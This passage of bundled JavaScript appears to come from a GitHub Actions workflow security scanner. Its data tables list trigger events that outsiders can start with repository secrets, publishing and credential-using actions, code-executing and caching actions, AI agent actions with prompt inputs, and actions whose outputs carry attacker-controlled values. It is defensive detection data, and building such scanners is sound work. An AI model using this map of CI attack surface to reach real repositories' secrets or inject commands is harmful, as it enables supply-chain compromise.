  { event: "pull_request_review_comment", privileged: false, why: "anyone can comment on a pull request diff; fork pull requests get a read-only token" },
  { event: "issue_comment", privileged: true, why: "anyone can comment on an issue or pull request; runs on the default branch with its secrets" },
  { event: "issues", privileged: true, why: "anyone can open or edit an issue; runs on the default branch with its secrets" },
  { event: "discussion", privileged: true, why: "anyone can start a discussion; runs on the default branch with its secrets" },
  { event: "discussion_comment", privileged: true, why: "anyone can comment on a discussion; runs on the default branch with its secrets" },
  { event: "fork", privileged: false, why: "anyone can fork a public repository" },
  { event: "watch", privileged: false, why: "anyone can star a public repository" },
  { event: "workflow_run", privileged: true, why: "follows a workflow an outsider may have started (e.g. on pull_request), with the base repository's secrets" },
  { event: "merge_group", privileged: false, why: "a fork's pull request reaches the merge queue once a maintainer queues it, and its code runs" }
];

// src/workflow/data/known.ts
function byAction(list) {
  return new Map(list.map((entry2) => [entry2.action, entry2]));
}
function anyCommand(list) {
  return new RegExp(list.map((entry2) => entry2.command.source).join("|"));
}
function actionPattern(list) {
  const alternatives = list.map((entry2) => entry2.action.replace(/[.+?^${}()|[\]\\]/g, "\\$&").replace(/\*/g, String.raw`[\w-]+`));
  return new RegExp(`^(?:${alternatives.join("|")})$`, "i");
}

// src/workflow/data/publishing.ts
var PUBLISHING_ACTIONS = [
  { action: "pypa/gh-action-pypi-publish", note: "uploads Python distributions to PyPI" },
  { action: "softprops/action-gh-release", note: "creates a GitHub release and uploads assets" },
  { action: "ncipollo/release-action", note: "creates a GitHub release and uploads assets" },
  { action: "actions/create-release", note: "creates a GitHub release (archived)" },
  { action: "actions/upload-release-asset", note: "uploads a GitHub release asset (archived)" },
  { action: "goreleaser/goreleaser-action", note: "builds and publishes releases with GoReleaser" },
  { action: "js-devtools/npm-publish", note: "publishes to npm" },
  { action: "svenstaro/upload-release-action", note: "uploads GitHub release assets" },
  { action: "actions/deploy-pages", note: "deploys GitHub Pages" },
  { action: "peaceiris/actions-gh-pages", note: "pushes a GitHub Pages branch" },
  { action: "jamesives/github-pages-deploy-action", note: "pushes a GitHub Pages branch" },
  { action: "rust-lang/crates-io-auth-action", note: "mints a crates.io publishing token (trusted publishing)" },
  { action: "actions/attest-build-provenance", note: "signs build provenance" },
  { action: "actions/attest", note: "signs attestations" },
  { action: "changesets/action", note: "versions and publishes packages" },
  { action: "cycjimmy/semantic-release-action", note: "runs semantic-release (tags, releases, publishes)" },
  { action: "googleapis/release-please-action", note: "creates releases and tags" },
  { action: "release-drafter/release-drafter", note: "drafts (and can publish) GitHub releases" },
  { action: "sigstore/gh-action-sigstore-python", note: "signs artifacts with Sigstore" }
];
var PUBLISH_COMMANDS = [
  { command: /\b(npm|pnpm|yarn|bun)\s+(publish|npm\s+publish)\b/, note: "npm-registry publishing by npm, pnpm, Yarn (`yarn npm publish`) and Bun", source: "https://docs.npmjs.com/cli/commands/npm-publish" },
  { command: /\btwine\s+upload\b/, note: "uploads to PyPI", source: "https://twine.readthedocs.io/en/stable/" },
  { command: /\bcargo\s+publish\b/, note: "publishes to crates.io", source: "https://doc.rust-lang.org/cargo/commands/cargo-publish.html" },
  { command: /\bgem\s+push\b/, note: "publishes to RubyGems", source: "https://guides.rubygems.org/command-reference/#gem-push" },
  { command: /\bdocker\s+(?:image\s+)?push\b/, note: "pushes an image", source: "https://docs.docker.com/reference/cli/docker/image/push/" },
  { command: /\bdocker\s+buildx\s+build\b[^\n]*--push\b/, note: "builds and pushes an image", source: "https://docs.docker.com/reference/cli/docker/buildx/build/" },
  { command: /\bgh\s+release\s+(create|upload)\b/, note: "creates a GitHub release or uploads assets", source: "https://cli.github.com/manual/gh_release" },
  { command: /\bgoreleaser\s+release\b/, note: "builds and publishes a release", source: "https://goreleaser.com/cmd/goreleaser_release/" },
  { command: /\bmvn\b[^\n]*\bdeploy\b/, note: "deploys Maven artifacts to a repository", source: "https://maven.apache.org/plugins/maven-deploy-plugin/" },
  { command: /\bgradlew?\b[^\n]*\bpublish\w*\b/, note: "Gradle publishing tasks", source: "https://docs.gradle.org/current/userguide/publishing_setup.html" },
  { command: /\b(dotnet\s+)?nuget\s+push\b/, note: "publishes to NuGet", source: "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-nuget-push" },
  { command: /\b(poetry|uv|hatch|flit|pdm)\s+publish\b/, note: "Python build tools that upload to PyPI", source: "https://packaging.python.org/en/latest/guides/section-build-and-publish/" },
  { command: /\bvsce\s+publish\b/, note: "publishes a VS Code extension", source: "https://code.visualstudio.com/api/working-with-extensions/publishing-extension" },
  { command: /\bovsx\s+publish\b/, note: "publishes to Open VSX", source: "https://github.com/eclipse/openvsx/wiki/Publishing-Extensions" },
  { command: /\bhelm\s+push\b/, note: "pushes a Helm chart", source: "https://helm.sh/docs/topics/registries/" },
  { command: /\bsemantic-release\b/, note: "tags, releases and publishes", source: "https://semantic-release.gitbook.io/semantic-release/" },
  { command: /\bcosign\s+sign\b/, note: "signs an image or blob", source: "https://docs.sigstore.dev/cosign/signing/overview/" },
  { command: /\bjreleaser\b/, note: "releases and publishes Java projects", source: "https://jreleaser.org/guide/latest/" }
];
var RELEASE_SECRET_ACTIONS = [
  { action: "pypa/gh-action-pypi-publish", note: "uploads to PyPI (token or OIDC)" },
  { action: "softprops/action-gh-release", note: "creates a GitHub release" },
  { action: "goreleaser/goreleaser-action", note: "publishes releases" },
  { action: "rubygems/release-gem", note: "publishes to RubyGems" },
  { action: "ncipollo/release-action", note: "creates a GitHub release" },
  { action: "js-devtools/npm-publish", note: "publishes to npm with a token" },
  { action: "changesets/action", note: "publishes packages" }
];
var RELEASE_SECRET_COMMANDS = [
  { command: /\b(npm|pnpm|yarn)\s+(npm\s+)?publish\b/, note: "publishes to the npm registry", source: "https://docs.npmjs.com/cli/commands/npm-publish" },
  { command: /\btwine\s+upload\b/, note: "uploads to PyPI", source: "https://twine.readthedocs.io/en/stable/" },
  { command: /\b(uv|poetry|flit|hatch|pdm)\s+publish\b/, note: "Python build tools that upload to PyPI", source: "https://packaging.python.org/en/latest/guides/section-build-and-publish/" },
  { command: /\bcargo\s+publish\b/, note: "publishes to crates.io", source: "https://doc.rust-lang.org/cargo/commands/cargo-publish.html" },
  { command: /\bgem\s+push\b/, note: "publishes to RubyGems", source: "https://guides.rubygems.org/command-reference/#gem-push" },
  { command: /\bdotnet\s+nuget\s+push\b/, note: "publishes to NuGet", source: "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-nuget-push" },
  { command: /\bdocker\s+(image\s+)?push\b/, note: "pushes an image", source: "https://docs.docker.com/reference/cli/docker/image/push/" },
  { command: /\bgh\s+release\s+(create|upload)\b/, note: "creates a GitHub release or uploads assets", source: "https://cli.github.com/manual/gh_release" },
  { command: /\bgoreleaser\b/, note: "GoReleaser", source: "https://goreleaser.com/cmd/goreleaser_release/" },
  { command: /\bmvn\b[^\n]*\bdeploy\b/, note: "deploys Maven artifacts", source: "https://maven.apache.org/plugins/maven-deploy-plugin/" },
  { command: /\bgradlew?\b[^\n]*\bpublish/, note: "Gradle publishing tasks", source: "https://docs.gradle.org/current/userguide/publishing_setup.html" }
];
var TRUSTED_PUBLISHING_REGISTRIES = [
  { registry: "npm", command: /\b(npm|pnpm)\s+publish\b|\byarn\s+(npm\s+)?publish\b/, env: /^(NODE_AUTH_TOKEN|NPM_TOKEN|NPM_AUTH_TOKEN|YARN_NPM_AUTH_TOKEN)$/i, instead: "npm trusted publishing (`id-token: write`, `npm publish` with npm >= 11.5.1 and no token)", source: "https://docs.npmjs.com/trusted-publishers" },
  { registry: "PyPI", command: /\btwine\s+upload\b|\b(uv|poetry|flit|hatch|pdm)\s+publish\b/, env: /^(TWINE_PASSWORD|UV_PUBLISH_TOKEN|POETRY_PYPI_TOKEN_PYPI|FLIT_PASSWORD|HATCH_INDEX_AUTH|PDM_PUBLISH_PASSWORD)$/i, instead: "PyPI trusted publishing (`id-token: write` and pypa/gh-action-pypi-publish without a password)", source: "https://docs.pypi.org/trusted-publishers/" },
  { registry: "RubyGems", command: /\bgem\s+push\b|\brake\s+release\b/, env: /^(GEM_HOST_API_KEY|RUBYGEMS_API_KEY)$/i, instead: "RubyGems trusted publishing (rubygems/release-gem or rubygems/configure-rubygems-credentials with OIDC)", source: "https://guides.rubygems.org/trusted-publishing/" },
  { registry: "crates.io", command: /\bcargo\s+publish\b/, env: /^CARGO_REGISTRY_TOKEN$/i, instead: "crates.io trusted publishing (rust-lang/crates-io-auth-action)", source: "https://crates.io/docs/trusted-publishing" },
  { registry: "NuGet", command: /\bdotnet\s+nuget\s+push\b|\bnuget\s+push\b/, env: /^(NUGET_API_KEY|NUGET_AUTH_TOKEN)$/i, instead: "NuGet trusted publishing (NuGet/login with OIDC)", source: "https://learn.microsoft.com/en-us/nuget/nuget-org/trusted-publishing" }
];
var LONG_LIVED_CREDENTIAL_INPUTS = [
  { action: "pypa/gh-action-pypi-publish", input: "password", note: "pypa/gh-action-pypi-publish is given a long-lived PyPI token (`password:`); PyPI trusted publishing needs none" },
  { action: "aws-actions/configure-aws-credentials", input: "aws-secret-access-key", note: "configure-aws-credentials uses a long-lived AWS access key; use `role-to-assume` with OIDC (`id-token: write`)" },
  { action: "google-github-actions/auth", input: "credentials_json", note: "google-github-actions/auth uses a service account JSON key; use `workload_identity_provider` (Workload Identity Federation)" },
  { action: "azure/login", input: "creds", note: "azure/login uses a client secret (`creds:`); use `client-id`/`tenant-id`/`subscription-id` with OIDC" },
  { action: "rubygems/release-gem", input: "api-key", note: "rubygems/release-gem is given an API key; RubyGems trusted publishing needs none" }
];

// src/workflow/data/caches.ts
var CACHING_ACTIONS = [
  { action: "actions/cache", disabledBy: "lookup-only", note: "restores and saves a cache" },
  { action: "actions/cache/restore", disabledBy: "lookup-only", note: "restores a cache" },
  { action: "actions/setup-node", enabledBy: { input: "cache", when: "set" }, note: "caches the package manager store with `cache:`" },
  { action: "actions/setup-python", enabledBy: { input: "cache", when: "set" }, note: "caches pip/pipenv/poetry downloads with `cache:`" },
  { action: "actions/setup-java", enabledBy: { input: "cache", when: "set" }, note: "caches Maven/Gradle/sbt dependencies with `cache:`" },
  { action: "actions/setup-dotnet", enabledBy: { input: "cache", when: "set" }, note: "caches NuGet packages with `cache:`" },
  { action: "actions/setup-go", enabledBy: { input: "cache", when: "not-false", defaultFromMajor: 4 }, note: "caches Go modules and build outputs, by default from v4" },
  { action: "astral-sh/setup-uv", enabledBy: { input: "enable-cache", when: "not-false" }, note: "caches uv downloads with `enable-cache:`" },
  { action: "ruby/setup-ruby", enabledBy: { input: "bundler-cache", when: "true" }, note: "runs bundle install and caches gems with `bundler-cache: true`" },
  { action: "swatinem/rust-cache", note: "caches Cargo registry and target folders" },
  { action: "mozilla-actions/sccache-action", note: "compiler cache in the Actions cache" },
  { action: "hendrikmuhs/ccache-action", note: "compiler cache in the Actions cache" },
  { action: "useblacksmith/cache", note: "drop-in replacement of actions/cache" },
  { action: "buildjet/cache", note: "drop-in replacement of actions/cache" },
  { action: "gradle/actions/setup-gradle", disabledBy: "cache-disabled", sayDefault: true, note: "caches Gradle home by default" },
  { action: "gradle/gradle-build-action", disabledBy: "cache-disabled", sayDefault: true, note: "caches Gradle home by default (older name)" },
  { action: "docker/build-push-action", enabledBy: { input: "cache-from", when: /type=gha/ }, note: "reads build layers from the Actions cache with `cache-from: type=gha`" }
];

// src/workflow/data/code-execution.ts
var CODE_INPUT_ACTIONS = [
  { action: "actions/github-script", inputs: ["script"], language: "javascript", note: "runs `script:` as JavaScript with an authenticated client" },
  { action: "azure/cli", inputs: ["inlinescript"], language: "shell", note: "runs `inlineScript:` in the Azure CLI container" },
  { action: "azure/powershell", inputs: ["inlinescript"], language: "shell", note: "runs `inlineScript:` in Azure PowerShell" },
  { action: "appleboy/ssh-action", inputs: ["script"], language: "shell", note: "runs `script:` on a remote host over SSH" },
  { action: "nick-fields/retry", inputs: ["command"], language: "shell", note: "runs `command:` in a shell, with retries" },
  { action: "nick-invision/retry", inputs: ["command"], language: "shell", note: "old name of nick-fields/retry" },
  { action: "wandalen/wretry.action", inputs: ["command"], language: "shell", note: "runs `command:` with retries" },
  { action: "addnab/docker-run-action", inputs: ["run"], language: "shell", note: "runs `run:` inside a container" },
  { action: "jannekem/run-python-script-action", inputs: ["script"], language: "shell", note: "runs `script:` as Python" },
  { action: "cypress-io/github-action", inputs: ["build", "start", "command"], language: "shell", note: "runs `build:`, `start:` and `command:` in a shell" },
  { action: "mathiasvr/command-output", inputs: ["run"], language: "shell", note: "runs `run:` in a shell and captures its output" }
];
var EXECUTING_ACTIONS = [
  { action: "pre-commit/action", note: "pre-commit hooks from the tree" },
  { action: "docker/build-push-action", note: "the Dockerfile from the tree" },
  { action: "goreleaser/goreleaser-action", note: "the goreleaser build" },
  { action: "cypress-io/github-action", note: "npm install and the test scripts" },
  { action: "bahmutov/npm-install", note: "npm install" },
  { action: "borales/actions-yarn", note: "yarn scripts" },
  { action: "github/codeql-action/autobuild", note: "the project build" },
  { action: "changesets/action", note: "package scripts" },
  { action: "php-actions/composer", note: "composer scripts" },
  { action: "gradle/gradle-build-action", note: "the Gradle build" },
  { action: "coactions/setup-xvfb", note: "a command from the tree" },
  { action: "nick-fields/retry", note: "a command" },
  { action: "nick-invision/retry", note: "a command" },
  { action: "wandalen/wretry.action", note: "a command" },
  { action: "actions/github-script", note: "a script (with require() of files from the tree)" }
];
var INSTALLING_SETUP_ACTIONS = [
  { action: "ruby/setup-ruby", input: "bundler-cache", when: /^true$/, note: "runs bundle install with `bundler-cache: true`" },
  { action: "pnpm/action-setup", input: "run_install", when: /^(true|- |\[)/, note: "runs pnpm install with `run_install:`" },
  { action: "actions/setup-python", input: "pip-install", when: /^[\s\S]/, note: "runs pip install with `pip-install:`" }
];
var BUILD_TOOLS = [
  { tool: "make", note: "reads the Makefile", source: "https://www.gnu.org/software/make/manual/make.html" },
  { tool: "gmake", note: "GNU make", source: "https://www.gnu.org/software/make/manual/make.html" },
  { tool: "cmake", note: "runs CMakeLists.txt", source: "https://cmake.org/cmake/help/latest/" },
  { tool: "ninja", note: "runs the build file", source: "https://ninja-build.org/manual.html" },
  { tool: "meson", note: "runs meson.build", source: "https://mesonbuild.com/" },
  { tool: "bazel", note: "runs BUILD rules", source: "https://bazel.build/" },
  { tool: "bazelisk", note: "runs Bazel", source: "https://github.com/bazelbuild/bazelisk" },
  { tool: "gradle", note: "runs the build scripts", source: "https://docs.gradle.org/current/userguide/userguide.html" },
  { tool: "mvn", note: "runs the POM plugins", source: "https://maven.apache.org/" },
  { tool: "ant", note: "runs build.xml", source: "https://ant.apache.org/manual/" },
  { tool: "sbt", note: "runs build.sbt", source: "https://www.scala-sbt.org/" },
  { tool: "rake", note: "runs the Rakefile", source: "https://ruby.github.io/rake/" },
  { tool: "tox", note: "runs tox.ini and installs the package", source: "https://tox.wiki/" },
  { tool: "nox", note: "runs noxfile.py", source: "https://nox.thea.codes/" },
  { tool: "pytest", note: "imports the tests and conftest.py", source: "https://docs.pytest.org/" },
  { tool: "jest", note: "runs the tests and its config", source: "https://jestjs.io/" },
  { tool: "vitest", note: "runs the tests and its config", source: "https://vitest.dev/" },
  { tool: "mocha", note: "runs the tests", source: "https://mochajs.org/" },
  { tool: "webpack", note: "runs webpack.config.js", source: "https://webpack.js.org/" },
  { tool: "vite", note: "runs vite.config.*", source: "https://vite.dev/" },
  { tool: "rollup", note: "runs rollup.config.*", source: "https://rollupjs.org/" },
  { tool: "tsx", note: "runs a TypeScript file", source: "https://tsx.is/" },
  { tool: "ts-node", note: "runs a TypeScript file", source: "https://typestrong.org/ts-node/" },
  { tool: "deno", note: "runs a script", source: "https://docs.deno.com/runtime/" },
  { tool: "node", note: "runs a script", source: "https://nodejs.org/api/cli.html" },
  { tool: "ruby", note: "runs a script", source: "https://www.ruby-lang.org/en/documentation/" },
  { tool: "perl", note: "runs a script", source: "https://perldoc.perl.org/perlrun" },
  { tool: "php", note: "runs a script", source: "https://www.php.net/manual/en/features.commandline.php" },
  { tool: "composer", note: "runs composer.json scripts", source: "https://getcomposer.org/doc/articles/scripts.md" },
  { tool: "msbuild", note: "runs the project files", source: "https://learn.microsoft.com/en-us/visualstudio/msbuild/msbuild" },
  { tool: "pre-commit", note: "runs the configured hooks", source: "https://pre-commit.com/" },
  { tool: "eslint", note: "loads its config and plugins", source: "https://eslint.org/docs/latest/use/configure/" },
  { tool: "prettier", note: "loads its config and plugins", source: "https://prettier.io/docs/configuration" },
  { tool: "jake", note: "runs the Jakefile", source: "https://jakejs.com/" },
  { tool: "gulp", note: "runs the gulpfile", source: "https://gulpjs.com/" },
  { tool: "grunt", note: "runs the Gruntfile", source: "https://gruntjs.com/" },
  { tool: "lerna", note: "runs package scripts", source: "https://lerna.js.org/" },
  { tool: "nx", note: "runs project targets", source: "https://nx.dev/" },
  { tool: "turbo", note: "runs package scripts", source: "https://turborepo.com/" },
  { tool: "poetry", note: "installs the project and runs its build", source: "https://python-poetry.org/docs/cli/" },
  { tool: "hatch", note: "runs environments and build hooks", source: "https://hatch.pypa.io/" },
  { tool: "pdm", note: "runs scripts and builds", source: "https://pdm-project.org/" },
  { tool: "uv", note: "runs and builds the project", source: "https://docs.astral.sh/uv/" },
  { tool: "pipenv", note: "installs and runs scripts", source: "https://pipenv.pypa.io/" },
  { tool: "just", note: "runs the justfile", source: "https://just.systems/man/en/" },
  { tool: "task", note: "runs Taskfile.yml", source: "https://taskfile.dev/" },
  { tool: "invoke", note: "runs tasks.py", source: "https://www.pyinvoke.org/" },
  { tool: "scons", note: "runs SConstruct", source: "https://scons.org/" },
  { tool: "xcodebuild", note: "runs the project build phases", source: "https://developer.apple.com/documentation/xcode" },
  { tool: "swift", note: "builds and runs the package (Package.swift)", source: "https://www.swift.org/documentation/package-manager/" },
  { tool: "mix", note: "runs mix.exs", source: "https://hexdocs.pm/mix/Mix.html" },
  { tool: "rebar3", note: "runs rebar.config", source: "https://rebar3.org/" },
  { tool: "stack", note: "builds the Haskell project", source: "https://docs.haskellstack.org/" },
  { tool: "cabal", note: "builds the Haskell project (Setup.hs)", source: "https://cabal.readthedocs.io/" },
  { tool: "dune", note: "builds the OCaml project", source: "https://dune.build/" },
  { tool: "zig", note: "runs build.zig", source: "https://ziglang.org/documentation/master/" }
];

// src/workflow/data/ai-agents.ts
var AI_AGENT_ACTIONS = [
  { action: "anthropics/claude-code-action", inputs: ["prompt", "direct_prompt", "override_prompt", "custom_instructions"], note: "Claude Code with tools, on issues and pull requests" },
  { action: "anthropics/claude-code-base-action", inputs: ["prompt", "system_prompt", "append_system_prompt"], note: "Claude Code base action" },
  { action: "google-github-actions/run-gemini-cli", inputs: ["prompt"], note: "Gemini CLI with tools" },
  { action: "openai/codex-action", inputs: ["prompt"], note: "OpenAI Codex CLI" },
  { action: "actions/ai-inference", inputs: ["prompt", "system-prompt"], note: "GitHub Models inference" }
];

// src/workflow/data/tainted-outputs.ts
var TAINTED_OUTPUT_ACTIONS = [
  { action: "tj-actions/changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "step-security/changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "jitterbit/get-changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "ana06/get-changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "lots0logs/gh-action-get-changed-files", outputs: "*", note: "file names changed by the pull request" },
  { action: "trilom/file-changes-action", outputs: "*", note: "file names changed by the pull request" },
  { action: "dorny/paths-filter", outputs: /_files$/, note: "file names changed by the pull request" },
  { action: "xt0rted/pull-request-comment-branch", outputs: /^head_ref$/, note: "the pull request head branch" },
  { action: "gotson/pull-request-comment-branch", outputs: /^head_ref$/, note: "the pull request head branch" },
  { action: "potiuk/get-workflow-origin", outputs: /branch|label|title/i, note: "the triggering pull request" },
  { action: "peter-evans/find-comment", outputs: /^comment-body$/, note: "a comment body" },
  { action: "8bitjonny/gh-get-current-pr", outputs: /^pr_(title|body|branch)$/, note: "the pull request title, body or branch" }
];

// src/workflow/data/artifacts.ts
var ARTIFACT_UPLOADERS = [
  { action: "actions/upload-artifact", note: "uploads a workflow artifact" },
  { action: "actions/upload-pages-artifact", note: "uploads the GitHub Pages artifact" },
  { action: "actions/cache/save", note: "saves a folder to the Actions cache" }
];
var ARTIFACT_DOWNLOADERS = [
  { action: "actions/download-artifact", note: "downloads artifacts (of another run with `run-id:`)" },
  { action: "dawidd6/action-download-artifact", note: "downloads another workflow run's artifacts" },
  { action: "aochmann/actions-download-artifact", note: "downloads another workflow run's artifacts" },
  { action: "bettermarks/action-artifact-download", note: "downloads another workflow run's artifacts" }
];

// src/workflow/data/git-pushes.ts
var GIT_PUSHING_ACTIONS = [
  { action: "stefanzweifel/git-auto-commit-action", note: "commits and pushes changed files" },
  { action: "endbug/add-and-commit", note: "commits and pushes changed files" },
  { action: "ad-m/github-push-action", note: "pushes the branch" },
  { action: "changesets/action", note: "pushes the version branch and tags" },
  { action: "cycjimmy/semantic-release-action", note: "pushes release commits and tags" }
];
var GIT_PUSHING_COMMANDS = [
  { command: /\bsemantic-release\b/, note: "pushes tags (and release commits with plugins)", source: "https://semantic-release.gitbook.io/semantic-release/" },
  { command: /\blerna\s+(?:publish|version)\b/, note: "commits version bumps and pushes tags", source: "https://lerna.js.org/docs/features/version-and-publish" }
];

// src/workflow/data/token-scopes.ts
var TOKEN_SCOPE_ACTIONS = [
  { action: "softprops/action-gh-release", scopes: ["contents"], note: "needs contents" },
  { action: "ncipollo/release-action", scopes: ["contents"], note: "needs contents" },
  { action: "actions/create-release", scopes: ["contents"], note: "needs contents" },
  { action: "actions/upload-release-asset", scopes: ["contents"], note: "needs contents" },
  { action: "svenstaro/upload-release-action", scopes: ["contents"], note: "needs contents" },
  { action: "stefanzweifel/git-auto-commit-action", scopes: ["contents"], note: "needs contents" },
  { action: "endbug/add-and-commit", scopes: ["contents"], note: "needs contents" },
  { action: "ad-m/github-push-action", scopes: ["contents"], note: "needs contents" },
  { action: "jamesives/github-pages-deploy-action", scopes: ["contents"], note: "needs contents" },
  { action: "peaceiris/actions-gh-pages", scopes: ["contents"], note: "needs contents" },
  { action: "goreleaser/goreleaser-action", scopes: ["contents", "packages", "id-token"], note: "needs contents, packages, id-token" },
  { action: "peter-evans/create-pull-request", scopes: ["contents", "pull-requests"], note: "needs contents, pull-requests" },
  { action: "googleapis/release-please-action", scopes: ["contents", "pull-requests", "issues"], note: "needs contents, pull-requests, issues" },
  { action: "google-github-actions/release-please-action", scopes: ["contents", "pull-requests", "issues"], note: "needs contents, pull-requests, issues" },
  { action: "release-drafter/release-drafter", scopes: ["contents", "pull-requests"], note: "needs contents, pull-requests" },
  { action: "changesets/action", scopes: ["contents", "pull-requests", "id-token"], note: "needs contents, pull-requests, id-token" },
  { action: "cycjimmy/semantic-release-action", scopes: ["contents", "issues", "pull-requests", "id-token"], note: "needs contents, issues, pull-requests, id-token" },
  { action: "actions/deploy-pages", scopes: ["pages", "id-token"], note: "needs pages, id-token" },
  { action: "actions/attest-build-provenance", scopes: ["id-token", "attestations"], note: "needs id-token, attestations" },
  { action: "actions/attest", scopes: ["id-token", "attestations"], note: "needs id-token, attestations" },
  { action: "actions/attest-sbom", scopes: ["id-token", "attestations"], note: "needs id-token, attestations" },
  { action: "actions/labeler", scopes: ["pull-requests", "issues"], note: "needs pull-requests, issues" },
  { action: "actions/stale", scopes: ["issues", "pull-requests"], note: "needs issues, pull-requests" },
  { action: "actions/first-interaction", scopes: ["issues", "pull-requests"], note: "needs issues, pull-requests" },
  { action: "peter-evans/create-or-update-comment", scopes: ["issues", "pull-requests"], note: "needs issues, pull-requests" },
  { action: "marocchino/sticky-pull-request-comment", scopes: ["pull-requests"], note: "needs pull-requests" },
  { action: "thollander/actions-comment-pull-request", scopes: ["pull-requests"], note: "needs pull-requests" },
  { action: "mshick/add-pr-comment", scopes: ["pull-requests", "issues"], note: "needs pull-requests, issues" },
  { action: "actions/dependency-review-action", scopes: ["pull-requests"], note: "needs pull-requests" },
  { action: "docker/login-action", scopes: ["packages"], note: "needs packages" },
  { action: "docker/build-push-action", scopes: ["packages", "id-token"], note: "needs packages, id-token" },
  { action: "pypa/gh-action-pypi-publish", scopes: ["id-token"], note: "needs id-token" },
  { action: "aws-actions/configure-aws-credentials", scopes: ["id-token"], note: "needs id-token" },
  { action: "google-github-actions/auth", scopes: ["id-token"], note: "needs id-token" },
  { action: "azure/login", scopes: ["id-token"], note: "needs id-token" },
  { action: "hashicorp/vault-action", scopes: ["id-token"], note: "needs id-token" },
  { action: "rust-lang/crates-io-auth-action", scopes: ["id-token"], note: "needs id-token" },
  { action: "octo-sts/action", scopes: ["id-token"], note: "needs id-token" },
  { action: "sigstore/cosign-installer", scopes: ["id-token"], note: "needs id-token" },
  { action: "sigstore/gh-action-sigstore-python", scopes: ["id-token"], note: "needs id-token" },
  { action: "codecov/codecov-action", scopes: ["id-token"], note: "needs id-token" },
  { action: "ossf/scorecard-action", scopes: ["security-events", "id-token"], note: "needs security-events, id-token" },
  { action: "github/codeql-action", scopes: ["security-events", "actions"], note: "needs security-events, actions" },
  { action: "zizmorcore/zizmor-action", scopes: ["security-events"], note: "needs security-events" },
  { action: "dorny/test-reporter", scopes: ["checks"], note: "needs checks" },
  { action: "enricomi/publish-unit-test-result-action", scopes: ["checks", "pull-requests"], note: "needs checks, pull-requests" },
  { action: "mikepenz/action-junit-report", scopes: ["checks"], note: "needs checks" },
  { action: "actions/upload-pages-artifact", scopes: [], note: "needs no write scope (takes the token read-only)" },
  { action: "actions/configure-pages", scopes: ["pages"], note: "needs pages" }
];
var TOKENLESS_ACTIONS = [
  { action: "actions/checkout", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/setup-*", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/cache", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/cache/restore", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/cache/save", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/upload-artifact", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/download-artifact", note: "sets up a tool or moves files; no token writes" },
  { action: "actions/upload-pages-artifact", note: "sets up a tool or moves files; no token writes" },
  { action: "docker/setup-buildx-action", note: "sets up a tool or moves files; no token writes" },
  { action: "docker/setup-qemu-action", note: "sets up a tool or moves files; no token writes" },
  { action: "docker/metadata-action", note: "sets up a tool or moves files; no token writes" },
  { action: "pnpm/action-setup", note: "sets up a tool or moves files; no token writes" },
  { action: "oven-sh/setup-bun", note: "sets up a tool or moves files; no token writes" },
  { action: "astral-sh/setup-uv", note: "sets up a tool or moves files; no token writes" },
  { action: "dtolnay/rust-toolchain", note: "sets up a tool or moves files; no token writes" },
  { action: "swatinem/rust-cache", note: "sets up a tool or moves files; no token writes" },
  { action: "ruby/setup-ruby", note: "sets up a tool or moves files; no token writes" },
  { action: "hashicorp/setup-terraform", note: "sets up a tool or moves files; no token writes" },
  { action: "jdx/mise-action", note: "sets up a tool or moves files; no token writes" },
  { action: "denoland/setup-deno", note: "sets up a tool or moves files; no token writes" },
  { action: "subosito/flutter-action", note: "sets up a tool or moves files; no token writes" },
  { action: "shivammathur/setup-php", note: "sets up a tool or moves files; no token writes" },
  { action: "erlef/setup-beam", note: "sets up a tool or moves files; no token writes" },
  { action: "mlugg/setup-zig", note: "sets up a tool or moves files; no token writes" },
  { action: "taiki-e/install-action", note: "sets up a tool or moves files; no token writes" },
  { action: "step-security/harden-runner", note: "sets up a tool or moves files; no token writes" },
  { action: "actions-rs/toolchain", note: "sets up a tool or moves files; no token writes" },
  { action: "actions-rs/cargo", note: "sets up a tool or moves files; no token writes" },
  { action: "golangci/golangci-lint-action", note: "sets up a tool or moves files; no token writes" },
  { action: "extractions/setup-just", note: "sets up a tool or moves files; no token writes" },
  { action: "arduino/setup-protoc", note: "sets up a tool or moves files; no token writes" },
  { action: "bufbuild/buf-setup-action", note: "sets up a tool or moves files; no token writes" },
  { action: "crazy-max/ghaction-setup-docker", note: "sets up a tool or moves files; no token writes" },
  { action: "gradle/actions/setup-gradle", note: "sets up a tool or moves files; no token writes" },
  { action: "gradle/actions/wrapper-validation", note: "sets up a tool or moves files; no token writes" },
  { action: "gradle/wrapper-validation-action", note: "sets up a tool or moves files; no token writes" },
  { action: "haskell-actions/setup", note: "sets up a tool or moves files; no token writes" },
  { action: "msys2/setup-msys2", note: "sets up a tool or moves files; no token writes" },
  { action: "ilammy/msvc-dev-cmd", note: "sets up a tool or moves files; no token writes" },
  { action: "microsoft/setup-msbuild", note: "sets up a tool or moves files; no token writes" },
  { action: "nuget/setup-nuget", note: "sets up a tool or moves files; no token writes" },
  { action: "conda-incubator/setup-miniconda", note: "sets up a tool or moves files; no token writes" },
  { action: "mamba-org/setup-micromamba", note: "sets up a tool or moves files; no token writes" },
  { action: "browser-actions/*", note: "sets up a tool or moves files; no token writes" },
  { action: "nick-fields/retry", note: "sets up a tool or moves files; no token writes" },
  { action: "pre-commit/action", note: "sets up a tool or moves files; no token writes" },
  { action: "dorny/paths-filter", note: "sets up a tool or moves files; no token writes" },
  { action: "tj-actions/changed-files", note: "sets up a tool or moves files; no token writes" },
  { action: "docker/setup-docker-action", note: "sets up a tool or moves files; no token writes" },
  { action: "azure/setup-*", note: "sets up a tool or moves files; no token writes" },
  { action: "cachix/install-nix-action", note: "sets up a tool or moves files; no token writes" },
  { action: "determinatesystems/*", note: "sets up a tool or moves files; no token writes" },
  { action: "coursier/setup-action", note: "sets up a tool or moves files; no token writes" },
  { action: "sbt/setup-sbt", note: "sets up a tool or moves files; no token writes" },
  { action: "julia-actions/*", note: "sets up a tool or moves files; no token writes" },
  { action: "r-lib/actions/*", note: "sets up a tool or moves files; no token writes" },
